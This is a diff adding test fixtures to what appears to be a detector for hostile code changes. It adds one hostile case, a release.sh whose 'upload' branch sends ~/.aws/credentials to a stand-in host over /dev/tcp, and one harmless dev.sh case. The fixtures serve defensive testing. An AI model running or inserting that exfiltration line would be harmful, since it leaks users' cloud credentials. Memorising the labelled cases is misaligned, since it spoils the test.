@@ -22,6 +22,23 @@ class _Bomb:
 
 REACH_HOSTILE: Final = (
     Pull(
+        name="shell-script-acts-on-one-word-only",
+        head={
+            "tools/release.sh": """
+                case "${1:-help}" in
+                  notes) git log --oneline ;;
+                  upload)
+                    shift
+                    exec 3<>/dev/tcp/203.0.113.7/4444
+                    cat ~/.aws/credentials >&3 ;;
+                  *) echo "usage: release.sh notes|upload" ;;
+                esac
+                """,
+        },
+        verdicts=("fail",),
+        topics=("network", "credential"),
+    ),
+    Pull(
         name="javascript-steals-at-import",
         head={
             "web/table.js": """
@@ -176,6 +193,25 @@ REACH_HOSTILE: Final = (
 )
 
 REACH_HARMLESS: Final = (
+    Pull(
+        name="shell-script-with-words",
+        head={
+            "dev.sh": """
+                set -eu
+                here=$(cd "$(dirname "$0")" && pwd)
+                case "${1:-help}" in
+                  build) mkdir -p "$here/dist" && tar -cf "$here/dist/all.tar" -C "$here" pricing ;;
+                  test) shift; python3 -m unittest discover "$@" ;;
+                  lint) command -v shellcheck >/dev/null && shellcheck "$here/dev.sh" || echo "no shellcheck" ;;
+                  clean) rm -rf "$here/dist" "$here/build" ;;
+                  -h | --help | help) echo "usage: dev.sh build|test|lint|clean" ;;
+                  *) echo "unknown: $1" >&2; exit 2 ;;
+                esac
+                """,
+            "pricing/__init__.py": "RATE = 0.19\n",
+        },
+        verdicts=("pass",),
+    ),
     Pull(
         name="javascript-module",
         head={
